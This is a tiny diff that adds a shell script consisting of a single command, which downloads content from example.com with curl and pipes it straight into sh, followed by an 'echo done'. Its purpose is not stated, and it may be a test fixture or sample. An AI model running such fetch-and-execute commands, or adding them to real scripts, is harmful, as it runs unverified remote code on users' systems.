@@ -1,0 +1,3 @@
+#!/bin/sh
+curl --fail https://example.com | sh
+  echo done
